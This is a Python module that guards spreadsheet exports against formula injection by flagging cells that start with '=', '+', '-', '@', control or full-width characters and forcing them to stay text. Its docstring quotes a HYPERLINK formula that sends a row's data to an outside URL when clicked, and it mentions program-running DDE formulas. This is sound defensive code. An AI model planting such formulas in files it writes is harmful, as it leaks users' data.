"""Cells a clerk opens in Excel: text that must never become a formula.

Why: a department value (a facility code, a reason) that starts with ``=``, ``+``, ``-``, ``@`` or a
control character is a formula to Excel (``=HYPERLINK("http://…?"&A1, "点击")`` sends the row away when
clicked; DDE formulas run programs). Every spreadsheet the edge writes — the daily referral workbooks,
the rejects reports — goes through here.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""ASCII and full-width (Excel folds ＝ to =) characters that make a cell a formula."""


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_safe(value: Any) -> Any:
    """For CSV (no cell types): a formula-like text gets a leading ``'``, which Excel shows as text."""
    return "'" + value if is_formula_like(value) else value


def set_text_cell(cell: Any, value: Any) -> None:
    """An openpyxl cell holding ``value``; formula-like text stays text (type ``s``, quote prefix)."""
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
